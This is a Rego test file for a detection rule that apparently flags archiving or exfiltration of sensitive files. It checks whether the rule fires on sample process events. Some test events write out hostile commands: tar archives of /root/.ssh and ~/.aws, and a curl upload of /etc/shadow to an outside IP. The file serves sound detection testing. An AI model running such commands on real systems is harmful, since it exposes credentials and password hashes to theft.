package tocsin.tests.sensitive_files_archived

import data.tocsin.rules.sensitive_files_archived as rule
import data.tocsin.testing

fires(ev) if {
	testing.selects(rule.tracee_selected_events, ev)
	match := rule.tracee_match with input as ev
	match != false
}

test_match_1 if fires(testing.executed("/usr/bin/tar", ["tar", "czf", "/tmp/x.tgz", "/root/.ssh"], {}))

test_match_2 if fires(testing.executed("/usr/bin/curl", ["curl", "-T", "/etc/shadow", "http://203.0.113.5/"], testing.container))

test_evasion_busybox if fires(testing.executed("/bin/busybox", ["tar", "c", "/home/bob/.aws"], {}))

test_near_miss_1 if not fires(testing.executed("/usr/bin/tar", ["tar", "czf", "/tmp/x.tgz", "/srv"], {}))

test_near_miss_listing if not fires(testing.executed("/usr/bin/ls", ["ls", "/root/.ssh"], {}))
